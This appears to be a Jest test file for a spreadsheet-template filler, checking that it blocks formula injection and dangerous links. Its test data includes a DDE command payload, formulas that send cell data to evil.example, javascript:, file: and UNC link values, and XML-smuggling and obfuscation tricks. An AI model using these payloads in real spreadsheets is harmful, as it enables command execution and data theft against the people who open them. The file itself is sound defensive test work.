import { compileTemplate, createFiller, RowFailed, validateDeck } from '../src/index';
import { type PartEdits, readPartText } from './edit-deck';
import { chartDeck, readWorkbook } from './edit-workbook';

const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';
const named: PartEdits = { [STRINGS]: (xml) => xml.replaceAll('Series 1', '{{v}}') };
const withRow = (cell: string) => (xml: string) =>
  xml.replace('<sheetData>', `<sheetData><row r="99"><c r="A99"${cell}</c></row>`);
const inline = (text: string): string => ` t="inlineStr"><is><t>${text}</t></is>`;

async function filledWorkbook(edits: PartEdits, value: string): Promise<Uint8Array> {
  const template = compileTemplate(await chartDeck(edits));
  const filler = createFiller(template, { columns: ['v'], mapping: new Map([['v', 'v']]) });
  const deck = Buffer.concat([...template.base.chunks(), filler.fill([value]).delta]);
  expect(validateDeck(deck, { leftovers: 'allow' }).filter(({ part }) => part?.includes('.xlsx'))).toEqual([]);
  return readWorkbook(deck);
}

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1)',
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("https://evil.example")',
  '</t></si><f>1+1</f>',
  ']]><f>1+1</f>',
];

describe.each(FORMULAS)('the value %j becomes no formula', (value) => {
  it('in a shared string, the cells of which stay strings', async () => {
    const workbook = await filledWorkbook(named, value);
    const sheet = await readPartText(workbook, SHEET);
    expect(sheet).toBe(await readPartText(await readWorkbook(await chartDeck({})), SHEET));
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(await readPartText(workbook, STRINGS)).not.toMatch(/<f[\s>]/);
  });

  it('in a cell with its text inside', async () => {
    const sheet = await readPartText(await filledWorkbook({ [SHEET]: withRow(inline('{{v}}')) }, value), SHEET);
    expect(sheet).toMatch(/<c r="A99" t="inlineStr"><is><t[^>]*>[^<]*<\/t><\/is><\/c>/);
    expect(sheet).not.toMatch(/<f[\s>]/);
  });
});

it.each([
  ['a formula', '><f>"{{v}}"</f>'],
  ['the result of a formula', ' t="str"><f>A1</f><v>{{v}}</v>'],
  ['an array formula', '><f t="array" ref="A99">HYPERLINK("{{v}}")</f>'],
])('%s is not filled', async (_, cell) => {
  const workbook = await filledWorkbook({ ...named, [SHEET]: withRow(cell) }, 'x');
  expect(await readPartText(workbook, SHEET)).toContain('{{v}}');
});

describe('in a workbook with formulas that make links of its cells', () => {
  const linking: PartEdits = { ...named, [SHEET]: withRow('><f>HYPERLINK(B1,"more")</f>') };

  it.each(['file:///c:/x.exe', '\\\\evil.example\\x', 'javascript:x', ' java\tscript:x'])(
    'the value %j fails the row',
    async (value) => {
      await expect(filledWorkbook(linking, value)).rejects.toThrow(RowFailed);
    },
  );

  it.each(['https://acme.example', 'Revenue: 2026', 'Data: 5', 'A: 1', '12:30', 'R&D <new>', ''])(
    'the value %j does not',
    async (value) => {
      await expect(filledWorkbook(linking, value)).resolves.toBeDefined();
    },
  );

  it('a link begun by the template is checked as a whole', async () => {
    const begun = { ...linking, [STRINGS]: (xml: string) => xml.replaceAll('Series 1', 'fi{{v}}') };
    await expect(filledWorkbook(begun, 'le:///c:/x')).rejects.toThrow('makes a link to');
  });

  const strings = (item: string): PartEdits => ({
    ...linking,
    [STRINGS]: (xml) => xml.replace(/<t[^>]*>Series 1<\/t>/, item),
  });

  it.each([
    ['a run that begins it', '<r><t>java</t></r><r><t>{{v}}</t></r>', 'script:x'],
    ['a run that ends it', '<r><t>{{v}}</t></r><r><t>:x</t></r>', 'javascript'],
    ['a run of its own for each letter', '<r><t>f</t></r><r><t>i</t></r><r><t>{{v}}</t></r><r><t>e:/x</t></r>', 'l'],
    ['a tag over two runs', '<r><t>fi{{</t></r><r><t>v}}:///c:/x</t></r>', 'le'],
    ['a tag twice', '<r><t>{{v}}</t></r><r><t>{{v}}evil.example</t></r>', '\\'],
    ['a phonetic guide between', '<r><t>java</t></r><rPh sb="0" eb="1"><t>-</t></rPh><r><t>{{v}}</t></r>', 'script:x'],
    ['a comment between', '<t>ja<!-- {{v}} -->va{{v}}</t>', 'script:x'],
    ['CDATA', '<t><![CDATA[java]]>{{v}}</t>', 'script:x'],
    ['a character as a reference', '<t>&#106;ava{{v}}</t>', 'script:x'],
    ['a character as workbooks write it', '<t>_x006A_ava{{v}}</t>', 'script:x'],
    ['a character written half by the value', '<t>_x006{{v}}_avascript:x</t>', 'A'],
    ['the mark of the check itself before it', '<t>\ufdd0</t></si><si><t>{{v}}</t>', 'file:///x'],
  ])('an address that runs make together fails the row, with %s', async (_, item, value) => {
    await expect(filledWorkbook(strings(item), value)).rejects.toThrow(RowFailed);
  });

  it.each([
    ['<r><t>https://acme.example/</t></r><r><t>{{v}}</t></r>', 'javascript:x'],
    ['<r><t>Sales: </t></r><r><t>{{v}}</t></r>', 'file'],
    ['<r><t>{{v}}</t></r><r><t> of 2026</t></r>', 'Data'],
  ])('what runs make together and leads nowhere else is a text: %s with %j', async (item, value) => {
    await expect(filledWorkbook(strings(item), value)).resolves.toBeDefined();
  });

  it('the next cell is another text', async () => {
    const two = strings('<t>java</t></si><si><t>{{v}}</t>');
    await expect(filledWorkbook(two, 'script:x')).resolves.toBeDefined();
  });

  it('so does an inline text', async () => {
    const sheet = withRow(`><f>HYPERLINK(B1)</f></c><c r="B99"${inline('{{v}}')}`);
    await expect(filledWorkbook({ [SHEET]: sheet }, 'file:///x')).rejects.toThrow('makes a link to');
  });
});

it('in other workbooks a text is a text', async () => {
  await expect(filledWorkbook(named, 'file:///c:/x.exe')).resolves.toBeDefined();
});
